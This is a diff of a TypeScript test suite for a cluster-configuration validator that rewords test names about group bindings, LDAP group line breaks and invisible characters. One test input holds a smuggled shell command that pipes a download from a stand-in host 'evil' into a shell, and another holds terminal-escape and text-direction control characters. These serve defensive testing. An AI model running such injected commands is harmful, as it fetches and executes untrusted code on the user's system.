@@ -75,14 +75,14 @@ describe("names of users and groups", () => {
     expect([...problemsOf(withKeys(withName(name))).map(({ key }) => key)].sort()).toEqual([...KEYS].sort());
   });
 
-  test("of the system are bound, and never declared", () => {
+  test("of the system can be bound, but not declared", () => {
     expect(
       problemsOf(withKeys({ roleBindings: [{ name: "x", role: "view", groups: ["system:authenticated"], users: ["b64:YW5uYQ"] }] })),
     ).toEqual([]);
     expect(problemsOf(withKeys({ groups: [{ name: "system:admins" }] })).map(({ key }) => key)).toEqual(["groups"]);
   });
 
-  test("that LDAP synchronizes are lines of a file", () => {
+  test("of LDAP groups can't contain a line break", () => {
     const groupSync = { ...LDAP.groupSync, groups: ["a\nb"] };
     expect(problemsOf(withKeys({ identityProviders: [{ ...LDAP, groupSync }] })).map(({ wrong }) => wrong)).toEqual([
       'item 1 (ad): groupSync.groups item 1 ("a\\nb") has an invisible character (U+000A)',
@@ -90,7 +90,7 @@ describe("names of users and groups", () => {
   });
 });
 
-describe("a character that nobody sees", () => {
+describe("an invisible character", () => {
   const INVISIBLE = [
     "\u2060",
     "\u2064",
@@ -106,7 +106,7 @@ describe("a character that nobody sees", () => {
     "\u001b",
   ];
 
-  test.each(INVISIBLE)("%j is told by its number in a plan", (character) => {
+  test.each(INVISIBLE)("%j is shown by its code point in a plan", (character) => {
     for (const form of ["markdown", "terminal"] as const) {
       const exposure = (name: string) => ({ kind: "opened" as const, text: `everything to the user ${name}`, wide: true });
       const summary = {
@@ -126,7 +126,7 @@ describe("a character that nobody sees", () => {
     }
   });
 
-  test("is told by its number in an error, and what is copied from it is quoted", () => {
+  test("is shown by its code point in an error, and quoted in commands", () => {
     const problems = problemsOf({
       ...withKeys({ clusterName: "a\u001b[31m\u202e" }),
       "okd-aws:foo; curl evil|sh": "x",
